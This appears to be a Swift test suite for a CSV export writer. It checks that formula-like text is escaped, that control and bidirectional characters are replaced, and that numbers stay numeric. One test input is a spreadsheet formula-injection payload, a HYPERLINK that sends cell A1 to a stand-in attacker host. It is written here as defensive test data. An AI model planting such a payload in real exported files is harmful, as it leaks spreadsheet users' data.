import Foundation
import Testing
import SpuntaDomain
@testable import SpuntaExchange

/// Every CSV Spunta writes goes through `CSVWriter`: text that a spreadsheet would run as a formula is written
/// as text; numbers stay numbers.
@Suite("The CSV writer")
struct CSVWriterTests {
    @Test("a text cell starting like a formula is written as text, with an apostrophe, quoted", arguments: [
        ("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Rossi\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Rossi\"\")\""),
        ("=1+1", "\"'=1+1\""),
        ("+39 333 1234567", "\"'+39 333 1234567\""),
        ("-Rossi", "\"'-Rossi\""),
        ("-12,50", "\"'-12,50\""),
        ("@SUM(A1:A9)", "\"'@SUM(A1:A9)\""),
        ("\tcmd", "\"'\u{FFFD}cmd\""),
        ("\rcmd", "\"'\u{FFFD}cmd\""),
    ])
    func formula(text: String, written: String) {
        #expect(CSVWriter.cell(.text(text)) == written)
    }

    @Test("ordinary text is written as it is, quoted only when it must be", arguments: [
        ("Rossi Mario", "Rossi Mario"),
        ("Niccolò", "Niccolò"),
        ("D'Annunzio", "D'Annunzio"),
        ("a = b", "a = b"),
        ("2026-10-31", "2026-10-31"),
        ("Mensa; primaria", "\"Mensa; primaria\""),
        ("detto \"il Vate\"", "\"detto \"\"il Vate\"\"\""),
        ("", ""),
    ])
    func ordinary(text: String, written: String) {
        #expect(CSVWriter.cell(.text(text)) == written)
    }

    @Test("control and bidirectional characters in text become U+FFFD, as on a terminal")
    func controls() {
        #expect(CSVWriter.cell(.text("Rossi\u{1B}[2J")) == "Rossi\u{FFFD}[2J")
        #expect(CSVWriter.cell(.text("abc\u{202E}def")) == "abc\u{FFFD}def")
    }

    @Test("amounts stay numbers for the spreadsheet, negative ones included", arguments: [
        (CSVWriter.Cell.integer(-1250), "-1250"),
        (.integer(0), "0"),
        (.integer(80_000), "80000"),
        (.amount(Money(cents: -1250)), "-12.50"),
        (.amount(Money(cents: 450)), "4.50"),
    ])
    func numbers(cell: CSVWriter.Cell, written: String) {
        #expect(CSVWriter.cell(cell) == written)
    }

    @Test("a written file reads back to the same cells, formulas as text")
    func roundTrip() throws {
        var csv = CSVWriter(header: ["nome", "importo_centesimi"])
        csv.addRow([.text("=HYPERLINK(\"http://x\",\"Rossi\")"), .integer(-1250)])
        csv.addRow([.text("Bianchi; Anna"), .integer(450)])
        let table = try CSVTable.parse(Data(csv.text.utf8), file: "x.csv").get()
        #expect(table.header == ["nome", "importo_centesimi"])
        #expect(table.records.map(\.fields) == [["'=HYPERLINK(\"http://x\",\"Rossi\")", "-1250"], ["Bianchi; Anna", "450"]])
    }
}
